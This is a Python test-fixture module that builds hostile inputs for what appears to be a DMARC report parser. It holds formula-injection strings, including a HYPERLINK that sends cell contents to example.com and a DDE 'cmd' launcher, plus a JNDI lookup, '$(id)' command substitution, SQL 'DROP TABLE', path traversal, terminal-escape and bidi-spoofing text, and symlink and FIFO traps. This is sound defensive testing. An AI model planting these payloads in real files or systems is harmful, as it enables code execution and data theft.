"""Hostile texts in every field of a report, and hostile files around it."""
import os
import re
import socket

from samples import MIB, packed, report

# A report in which every field that holds text stands once.
FIELDS = '''<?xml version="1.0" encoding="UTF-8"?>
<feedback xmlns:e="urn:e">
  <version>@</version>
  <report_metadata>
    <org_name>@</org_name><email>@</email>
    <extra_contact_info>@</extra_contact_info>
    <report_id>@</report_id>
    <date_range><begin>1767225600</begin><end>1767311999</end></date_range>
    <error>@</error><error>@</error><generator>@</generator>
  </report_metadata>
  <policy_published>
    <domain>@</domain><discovery_method>@</discovery_method>
    <p>@</p><sp>@</sp><np>@</np><adkim>@</adkim><aspf>@</aspf>
    <pct>@</pct><fo>@</fo><testing>@</testing>
  </policy_published>
  <e:extension>@</e:extension>
  <record>
    <row>
      <source_ip>@</source_ip><count>2</count>
      <policy_evaluated>
        <disposition>@</disposition><dkim>@</dkim><spf>@</spf>
        <reason><type>@</type><comment>@</comment></reason>
      </policy_evaluated>
    </row>
    <identifiers>
      <header_from>@</header_from><envelope_from>@</envelope_from>
      <envelope_to>@</envelope_to>
    </identifiers>
    <auth_results>
      <dkim><domain>@</domain><selector>@</selector><result>@</result>
        <human_result>@</human_result></dkim>
      <spf><domain>@</domain><scope>@</scope><result>@</result>
        <human_result>@</human_result></spf>
    </auth_results>
  </record>
</feedback>
'''
# Text of each attack; what XML cannot hold goes in raw.
TEXTS = {
    'formula': '=HYPERLINK("http://example.com/?"&amp;A1,"x")',
    'formula-plus': '+1+cmd|\' /C calc\'!A0',
    'formula-minus': '-2+3',
    'formula-at': '@SUM(1+1)*cmd',
    'formula-tab': '&#9;=1+1',
    'formula-cr': '&#13;=1+1&#10;=2+2',
    'formula-quotes': '",=1+1,"&#10;=2+2;=3+3',
    'html': '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x '
            'onerror=alert(1)&gt;"\'&amp;lt;',
    'ansi': '\x1b[31;5m\x1b]0;title\x07\x1b]52;c;eA==\x07\x1bc\x08\x7f',
    'c1': '\x9b31m\x9d0;t\x9c\x84\x85\x90',
    'bidi': '\u202egpj.exe\u202c\u2066a\u2067b\u2068c\u2069\u200e\u200f'
            '\u061c\u2028\u2029\ufeff',
    'characters': '\ufdd0\ufffe\uffff\U0001fffe\ue000\u0300\u0300'
                  '\U000e0001\u200b\u200d\u3164',
    'controls': '&#1;\x02\x03&#x1b;\x0b\x0c\x0e\x1f\x7f&#127;&#0;',
    'format': '%s%n%x%d%%{0}${jndi:ldap://127.0.0.1/a}`id`$(id)',
    'paths': '../../../../canary',
    'sql': "'); DROP TABLE report; --",
    'long': 'long text ' * 5000,
    'bytes': '\udcff\udcfe\udcc0\udc80\udced\udca0\udc80\udcf5',
}


def fields(text):
    return FIELDS.replace('@', text).encode('utf-8', 'surrogateescape')


def numbered(text):
    """The same, each field with another text, so that none is a repeat."""
    counter = iter(range(1000))
    return re.sub('@', lambda m: '%s%d' % (text, next(counter)),
                  FIELDS).encode()


def write(folder, name, data):
    with open(os.path.join(os.fsencode(folder), name), 'wb') as stream:
        stream.write(data)


def special_files(place):
    """A directory of things that are no regular files; a report last."""
    os.mkdir(place.path)
    os.mkfifo(os.path.join(place.path, 'a-fifo.xml'))
    os.symlink('/dev/zero', os.path.join(place.path, 'b-device.xml'))
    os.symlink(place.secret, os.path.join(place.path, 'c-link.xml'))
    os.symlink('nowhere', os.path.join(place.path, 'd-dangling.xml'))
    os.symlink('e-self.xml', os.path.join(place.path, 'e-self.xml'))
    folder = os.getcwd()
    os.chdir(place.path)  # a socket's path must be short
    with socket.socket(socket.AF_UNIX) as here:
        here.bind('f-socket.xml')
    os.chdir(folder)
    write(place.path, b'z-good.xml', report().encode())


def directory_like_a_report(place):
    os.makedirs(os.path.join(place.path, 'receiver.example!example.com!1!2'
                             '.xml.gz', 'deeper.zip'))
    write(os.path.join(place.path, 'receiver.example!example.com!1!2.xml.gz',
                       'deeper.zip'), b'good.xml', report().encode())


def hostile_names(place):
    """Names that drive a terminal; broken reports, so that they are said."""
    os.mkdir(place.path)
    for n, name in enumerate((
            b'\x1b[31mred.xml', b'line\nbreak.xml', b'\xff\xfe.xml',
            '\u202elmx.gpj'.encode(), b'=1+1.xml', b'-rf', b'\xc2\x9b31m',
            b'%s%n', b'n' * 255)):
        write(place.path, name, b'<feedback>%d' % n)
    write(place.path, b'good\x1b[0m\r.xml', report().encode())


def deep_directories(place):
    path = place.path
    for n in range(200):
        path = os.path.join(path, 'd')
    os.makedirs(path)
    write(path, b'good.xml', report().encode())
    write(place.path, b'z-good.xml', report().encode())


def directory_loop(place):
    os.mkdir(place.path)
    os.symlink('.', os.path.join(place.path, 'a'))
    os.symlink(os.path.dirname(place.path) + '/' + os.path.basename(
        place.path), os.path.join(place.path, 'b'))
    write(place.path, b'good.xml', report().encode())


def sparse(place):
    with open(place.path, 'wb') as stream:
        stream.truncate(1024 * MIB)


def fifo(place):
    os.mkfifo(place.path)


CASES = {
    'file-empty': lambda p: b'',
    'file-one-byte': lambda p: b'<',
    'file-blanks': lambda p: b' \n' * MIB,
    'file-noise': lambda p: packed(b'seed' * 1000)[10:] * 20000,
    'file-sparse-1-gib': sparse,
    'file-fifo': fifo,
    'file-device': lambda p: os.symlink('/dev/zero', p.path),
    'folder-special-files': special_files,
    'folder-like-a-report': directory_like_a_report,
    'folder-hostile-names': hostile_names,
    'folder-200-deep': deep_directories,
    'folder-loop': directory_loop,
    'fields-namespace': lambda p: report().replace(
        '<feedback>', '<feedback xmlns="=1+1&#x1b;[31m\u202e\x9b"'
        ' a="=1+1\u2066" xmlns:n="\ufeff">'),
    'fields-numbered': lambda p: numbered('=1+1 \u202e'),
}
CASES.update(('fields-' + name, lambda p, text=text: fields(text))
             for name, text in TEXTS.items())
